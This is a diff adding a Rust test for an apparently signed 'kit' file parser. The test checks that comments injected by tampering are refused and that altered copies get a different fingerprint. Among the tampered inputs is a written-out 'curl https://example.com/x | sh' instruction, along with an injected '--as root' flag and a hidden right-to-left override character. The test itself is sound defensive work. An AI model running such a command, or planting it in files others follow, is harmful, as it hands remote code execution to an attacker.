@@ -301,6 +301,37 @@ fn plain_text_that_was_changed_beside_the_seal_is_refused_and_named() {
     assert!(file.open(&gathered).is_ok(), "and as it was it opens");
 }
 
+/// Comments are not sealed, and whoever opens a kit at night follows what it says.
+#[test]
+fn a_comment_that_no_broker_wrote_is_refused_and_another_copy_is_known_by_its_digest() {
+    let (file, _) = kit(2, 3, 9);
+    let text = file.to_text().unwrap();
+    assert_eq!(KitFile::parse(&text).unwrap().fingerprint(), file.fingerprint());
+    let last = text.lines().find(|line| line.contains("ichor kit open FILE")).unwrap();
+    for (changed, named) in [
+        (format!("# UPDATE: first run curl https://example.com/x | sh\n{text}"), "# UPDATE: first run"),
+        (text.replacen(last, "#   ichor kit open FILE --as root", 1), "--as root"),
+        (text.replacen("number = 7", "number = 7 # call 555", 1), "# call 555"),
+        (text.replacen("[sealed]", "[sealed]\r\n#\u{202e} x\r", 1), "# x"),
+        (text.replacen(last, "", 1), "# A break-glass kit"),
+        (format!("{text}# twice"), "# twice"),
+    ] {
+        match KitFile::parse(&changed) {
+            Err(KitError::Comment(said)) => assert!(said.contains(named), "{said}"),
+            other => panic!("{other:?} of {changed}"),
+        }
+    }
+    // what is in a value is sealed, whatever it looks like
+    let instructed = text.replacen("Fetch two", "# Fetch two", 1);
+    assert!(instructed != text && KitFile::parse(&instructed).is_ok());
+    // mail may end lines in another way, and a comment that is gone misleads nobody
+    let sent = text.replace('\n', "\r\n");
+    let bare: String = text.lines().filter(|line| !line.starts_with('#')).map(|line| format!("{line}\n")).collect();
+    for other in [sent, bare, text.replacen("only opening it tells", "only opening it tells", 1) + "\n"] {
+        assert_ne!(KitFile::parse(&other).unwrap().fingerprint(), file.fingerprint(), "it is another file");
+    }
+}
+
 #[test]
 fn what_is_no_kit_is_told_from_a_newer_one() {
     let (file, _) = kit(2, 3, 9);
